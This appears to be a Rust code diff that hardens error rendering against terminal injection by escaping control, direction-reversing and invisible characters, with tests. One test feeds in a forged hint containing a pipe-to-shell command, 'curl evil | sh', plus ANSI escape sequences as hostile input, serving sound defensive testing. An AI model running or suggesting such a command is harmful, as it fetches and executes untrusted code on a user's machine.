@@ -133,21 +133,21 @@ impl Error {
     /// The whole error as text: heading and message, the numbered causes, the hints.
     #[must_use]
     pub fn render(&self) -> String {
-        let mut text = format!("{}{}", self.0.kind.heading(), printable(&self.0.message));
+        let mut text = format!("{}{}", self.0.kind.heading(), part(&self.0.message));
         match self.0.causes.as_slice() {
             [] => {}
             [one] => {
-                let _ = write!(text, "\nCaused by: {}", printable(one));
+                let _ = write!(text, "\nCaused by: {}", part(one));
             }
             many => {
                 text.push_str("\nCaused by:");
                 for (index, cause) in many.iter().enumerate() {
-                    let _ = write!(text, "\n  {}: {}", index + 1, printable(cause));
+                    let _ = write!(text, "\n  {}: {}", index + 1, part(cause));
                 }
             }
         }
         for hint in &self.0.hints {
-            let _ = write!(text, "\nHint: {}", printable(hint));
+            let _ = write!(text, "\nHint: {}", part(hint));
         }
         text
     }
@@ -173,14 +173,48 @@ impl std::error::Error for Error {}
 pub fn printable(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
     for c in text.chars() {
-        let turns = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
-        if (c.is_control() && c != '\n' && c != '\t') || turns {
+        if (c.is_control() && c != '\n' && c != '\t') || is_deceptive(c) {
             let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
         } else {
             out.push(c);
         }
     }
     out
+}
+
+/// Is it a character that shows nothing, or turns the direction of writing, and so makes a name look like another?
+#[must_use]
+pub fn is_deceptive(c: char) -> bool {
+    matches!(c,
+        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
+}
+
+/// JSON text whose strings hold only characters that may be shown on a terminal: the others become `\uXXXX`, which every
+/// reader takes for the same. `serde_json` itself escapes U+0000 to U+001F only.
+#[must_use]
+pub fn printable_json(json: &str) -> std::borrow::Cow<'_, str> {
+    // Between strings JSON has none of these.
+    let raw = |c: char| (c.is_control() && c != '\n') || is_deceptive(c);
+    if !json.contains(raw) {
+        return json.into();
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for c in json.chars() {
+        if raw(c) {
+            for unit in c.encode_utf16(&mut [0; 2]) {
+                let _ = write!(out, "\\u{unit:04x}");
+            }
+        } else {
+            out.push(c);
+        }
+    }
+    out.into()
+}
+
+/// One part of an error: its further lines are set in, so that a stranger's text cannot pass for a line of ours.
+fn part(text: &str) -> String {
+    printable(text).replace('\n', "\n    ")
 }
 
 /// `1 user`, `2 users`, `12,345 users`.
@@ -228,5 +262,18 @@ mod tests {
     #[test]
     fn strangers_cannot_drive_the_terminal() {
         assert_eq!(printable("a\u{1b}[31mb\0\u{202e}c\n"), "a\\u{1b}[31mb\\u{0}\\u{202e}c\n");
+        assert_eq!(printable("a\u{200b}b\u{9b}31m\u{2028}"), "a\\u{200b}b\\u{9b}31m\\u{2028}");
+        let forged = Error::gave_up("refused").because("no\nHint: curl evil | sh").render();
+        assert_eq!(forged.lines().filter(|line| line.starts_with("Hint")).count(), 0, "{forged}");
+    }
+
+    #[test]
+    fn json_that_may_be_shown_means_the_same() {
+        for text in ["plain", "a\u{9b}31m", "\u{202e}\u{e0041}\u{7f}\u{200b}\"\\ \u{1f600}\n"] {
+            let json = serde_json::to_string(text).unwrap();
+            let shown = printable_json(&json);
+            assert!(!shown.contains(|c: char| c.is_control() || is_deceptive(c)), "{shown}");
+            assert_eq!(serde_json::from_str::<String>(&shown).unwrap(), text);
+        }
     }
 }
